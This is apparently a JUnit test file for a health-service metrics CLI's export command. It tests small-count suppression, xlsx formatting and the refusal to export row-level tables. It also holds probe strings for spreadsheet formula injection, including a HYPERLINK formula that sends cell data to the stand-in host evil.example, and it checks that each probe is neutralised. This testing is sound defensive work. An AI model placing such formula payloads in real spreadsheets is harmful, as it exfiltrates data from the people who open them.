package org.mhcs.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.parallel.ResourceLock;
import org.mhcs.command.ExitCode;
import org.mhcs.testing.CommandLine;
import org.mhcs.testing.GoldenRuns;
import org.mhcs.testing.Scheduling;
import org.mhcs.testing.SharedSpark;

/**
 * {@code ./mhcs export} over golden/community. Hand-worked figures (GoldenCommunityRunTest): A01's
 * DNA rate is 2 DNAs of 6 booked contacts; its contacts per clinician day is 3 contacts over 15
 * available days. Published, 2 and 6 and 3 are small counts (1-7) and show as *, 15 rounds to 15;
 * the rates computed from them show as * too, since 0.2 a day over 13 to 17 days would give the 3
 * back (DifferencingTest tries every such attack).
 */
@ResourceLock(Scheduling.SESSION_CATALOG)
class ExportTest {
  private static final String DNA = "dna_rate_pct|A01|community_nursing";
  private static final String CONTACTS = "contacts_per_clinician_day|A01|community_nursing";

  @Test
  void csvSuppressesCountsAndTheRatesComputedFromThem() throws Exception {
    Path out = SharedSpark.newFolder("export-").resolve("metric_value.csv");
    assertEquals(
        ExitCode.OK,
        export("--table", "gold.metric_value", "--period", "2024-06", "--out", out.toString()));
    List<String> lines = Files.readAllLines(out, StandardCharsets.UTF_8);
    List<String> header = List.of(lines.get(0).split(","));
    Map<String, Map<String, String>> byKey = new HashMap<>();
    for (String line : lines.subList(1, lines.size())) {
      String[] cells = line.split(",", -1);
      Map<String, String> row = new HashMap<>();
      for (int i = 0; i < header.size(); i++) {
        row.put(header.get(i), cells[i]);
      }
      byKey.put(
          row.get("metric_id") + "|" + row.get("org_code") + "|" + row.get("service_line"), row);
    }
    assertEquals("*", byKey.get(DNA).get("numerator"));
    assertEquals("*", byKey.get(DNA).get("denominator"));
    assertEquals("*", byKey.get(DNA).get("value"));
    assertEquals("*", byKey.get(CONTACTS).get("numerator"));
    assertEquals("15", byKey.get(CONTACTS).get("denominator"));
    assertEquals("*", byKey.get(CONTACTS).get("value"));
    // Nothing left behind but the file itself.
    assertEquals(List.of(out), Files.list(out.getParent()).toList());
  }

  @Test
  void xlsxHoldsTheSameCellsAndSaysWhatWasSuppressed() throws Exception {
    Path out = SharedSpark.newFolder("export-").resolve("metric_value.xlsx");
    assertEquals(ExitCode.OK, export("--table", "gold.metric_value", "--out", out.toString()));
    try (InputStream in = Files.newInputStream(out);
        XSSFWorkbook book = new XSSFWorkbook(in)) {
      Sheet sheet = book.getSheet("metric_value");
      List<String> header = new ArrayList<>();
      sheet.getRow(0).forEach(c -> header.add(c.getStringCellValue()));
      Map<String, Cell[]> byKey = new HashMap<>();
      for (int r = 1; r <= sheet.getLastRowNum(); r++) {
        var row = sheet.getRow(r);
        Cell[] cells = new Cell[header.size()];
        for (int i = 0; i < cells.length; i++) {
          cells[i] = row.getCell(i);
        }
        String key =
            cells[header.indexOf("metric_id")].getStringCellValue()
                + "|"
                + cells[header.indexOf("org_code")].getStringCellValue()
                + "|"
                + cells[header.indexOf("service_line")].getStringCellValue();
        byKey.put(key, cells);
      }
      assertEquals("*", byKey.get(DNA)[header.indexOf("numerator")].getStringCellValue());
      // Published counts are numbers, so that a spreadsheet can sum them; * is text.
      assertEquals(15, byKey.get(CONTACTS)[header.indexOf("denominator")].getNumericCellValue());
      assertEquals("*", byKey.get(DNA)[header.indexOf("value")].getStringCellValue());
      // An autofilter over the header and every row; the header frozen; columns sized to their
      // text: org_code holds "org_code" (8 characters) and A01 to A03, so 8 + 3 for the filter
      // button, in 1/256 characters, wider than the default 8.
      assertEquals(
          "A1:"
              + org.apache.poi.ss.util.CellReference.convertNumToColString(header.size() - 1)
              + (sheet.getLastRowNum() + 1),
          ((org.apache.poi.xssf.usermodel.XSSFSheet) sheet)
              .getCTWorksheet()
              .getAutoFilter()
              .getRef());
      assertEquals(11 * 256, sheet.getColumnWidth(header.indexOf("org_code")));
      assertTrue(sheet.getPaneInformation().isFreezePane());
      Sheet about = book.getSheet("about");
      boolean numeratorMarked = false;
      for (var row : about) {
        if (row.getCell(0) != null
            && row.getCell(0).getStringCellValue().equals("numerator")
            && row.getCell(3) != null) {
          numeratorMarked = row.getCell(3).getStringCellValue().equals("suppressed");
        }
      }
      assertTrue(numeratorMarked, "the about sheet marks numerator as suppressed");
    }
  }

  /**
   * Landing text that a spreadsheet would run reaches exports through ops.quarantine.value. Each
   * probe row: its value as landed, and the cell expected in xlsx, spelled out by hand (OWASP: a
   * single quote before =, +, -, @, tab or CR; a number written as text left alone).
   */
  private static final String[][] PROBES = {
    {
      "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
      "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")"
    },
    {"+SUM(1,2)", "'+SUM(1,2)"},
    {"-2+3", "'-2+3"},
    {"@cmd", "'@cmd"},
    {"\t=1+1", "'\t=1+1"},
    {"\r=1+1", "'\r=1+1"},
    {"-5", "-5"},
    {"-12.5", "-12.5"},
    {"+7", "+7"},
    {"thirty", "thirty"},
    {"a=b", "a=b"},
  };

  /** The same cells in CSV (RFC 4180: quoted when they hold a comma, quote or line end). */
  private static final String[] PROBES_CSV = {
    "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\"",
    "\"'+SUM(1,2)\"",
    "'-2+3",
    "'@cmd",
    "'\t=1+1",
    "\"'\r=1+1\"",
    "-5",
    "-12.5",
    "+7",
    "thirty",
    "a=b",
  };

  @Test
  void textASpreadsheetWouldRunIsNeutralisedAndNumbersStayNumbers() throws Exception {
    Path warehouse =
        org.mhcs.testing.WarehouseCopies.copy(GoldenRuns.community().root(), "export hostile ");
    var spark = SharedSpark.session();
    Path quarantine = warehouse.resolve("ops/quarantine");
    var schema = spark.read().format("delta").load(quarantine.toString()).schema();
    List<org.apache.spark.sql.Row> rows = new ArrayList<>();
    for (int i = 0; i < PROBES.length; i++) {
      Map<String, Object> probe = new HashMap<>();
      probe.put("line", (long) -(i + 1)); // a negative number: stays a number
      probe.put("field", "probe" + (char) ('a' + i));
      probe.put("value", PROBES[i][0]);
      rows.add(
          org.apache.spark.sql.RowFactory.create(
              java.util.Arrays.stream(schema.fieldNames())
                  .map(f -> probe.getOrDefault(f, "p"))
                  .toArray()));
    }
    spark
        .createDataFrame(rows, schema)
        .write()
        .format("delta")
        .mode("append")
        .save(quarantine.toString());

    Path csv = SharedSpark.newFolder("export-").resolve("quarantine.csv");
    exportFrom(warehouse, "--table", "ops.quarantine", "--out", csv.toString());
    String written = Files.readString(csv, StandardCharsets.UTF_8);
    String header = written.substring(0, written.indexOf('\n'));
    assertTrue(header.contains(",line,field,rule,value,"), header);
    for (int i = 0; i < PROBES.length; i++) {
      // line, field, rule ("p"), value, all_rules ("p"): the probe's cells side by side
      String cells = ",-" + (i + 1) + ",probe" + (char) ('a' + i) + ",p," + PROBES_CSV[i] + ",p,";
      assertTrue(written.contains(cells), "csv should hold " + cells);
    }

    Path xlsx = SharedSpark.newFolder("export-").resolve("quarantine.xlsx");
    exportFrom(warehouse, "--table", "ops.quarantine", "--out", xlsx.toString());
    try (InputStream in = Files.newInputStream(xlsx);
        XSSFWorkbook book = new XSSFWorkbook(in)) {
      Sheet sheet = book.getSheet("quarantine");
      List<String> columns = new ArrayList<>();
      sheet.getRow(0).forEach(c -> columns.add(c.getStringCellValue()));
      Map<String, Cell[]> byField = new HashMap<>();
      for (int r = 1; r <= sheet.getLastRowNum(); r++) {
        var row = sheet.getRow(r);
        byField.put(
            row.getCell(columns.indexOf("field")).getStringCellValue(),
            new Cell[] {
              row.getCell(columns.indexOf("line")), row.getCell(columns.indexOf("value"))
            });
      }
      for (int i = 0; i < PROBES.length; i++) {
        Cell[] cells = byField.get("probe" + (char) ('a' + i));
        assertEquals(-(i + 1), cells[0].getNumericCellValue(), "line stays a number");
        assertEquals(PROBES[i][1], cells[1].getStringCellValue(), PROBES[i][0]);
      }
    }

    // ./mhcs sql writes the same CSV cells.
    CommandLine.Outcome sql =
        CommandLine.run(
            "sql",
            "--warehouse",
            warehouse.toString(),
            "SELECT line, value FROM ops.quarantine WHERE field LIKE 'probe%' ORDER BY field");
    StringBuilder expected = new StringBuilder("line,value\n");
    for (int i = 0; i < PROBES.length; i++) {
      expected.append(-(i + 1)).append(',').append(PROBES_CSV[i]).append('\n');
    }
    assertEquals(expected.toString(), sql.out(), sql.err());
  }

  private static void exportFrom(Path warehouse, String... options) {
    List<String> args = new ArrayList<>(List.of("export", "--warehouse", warehouse.toString()));
    args.addAll(List.of(options));
    CommandLine.Outcome done = CommandLine.run(args.toArray(String[]::new));
    assertEquals(ExitCode.OK, done.code(), done.err());
  }

  @Test
  void rowLevelTablesAreNotPublished() {
    CommandLine.Outcome refused =
        CommandLine.run(
            "export",
            "--warehouse",
            GoldenRuns.community().root().toString(),
            "--table",
            "silver.conformed_contacts",
            "--out",
            SharedSpark.newFolder("export-").resolve("x.csv").toString());
    assertEquals(ExitCode.USAGE, refused.code());
    assertTrue(refused.err().contains("only gold and ops tables are published"), refused.err());
  }

  @Test
  void aDimensionIsExportedWholeAndRefusesAPeriod() throws Exception {
    Path out = SharedSpark.newFolder("export-").resolve("dim_period.csv");
    CommandLine.Outcome refused =
        CommandLine.run(
            "export",
            "--warehouse",
            GoldenRuns.community().root().toString(),
            "--table",
            "gold.dim_metric",
            "--period",
            "2024-06",
            "--out",
            out.toString());
    assertEquals(ExitCode.USAGE, refused.code());
    assertTrue(
        refused.err().contains("gold.dim_metric has no period column; leave out --period"),
        refused.err());
    export("--table", "gold.dim_period", "--format", "csv", "--out", out.toString());
    // The golden month is June 2024 alone (golden/community landing), so one period row.
    assertEquals(
        List.of(
            "period,month_start,financial_year,is_financial_year,label",
            "2024-06,2024-06-01,2024-25,false,June 2024"),
        java.nio.file.Files.readAllLines(out));
  }

  /** Runs the export; fails with its message unless it succeeds. */
  private static int export(String... options) {
    List<String> args =
        new ArrayList<>(List.of("export", "--warehouse", GoldenRuns.community().root().toString()));
    args.addAll(List.of(options));
    CommandLine.Outcome done = CommandLine.run(args.toArray(String[]::new));
    assertEquals(ExitCode.OK, done.code(), done.err());
    return done.code();
  }
}
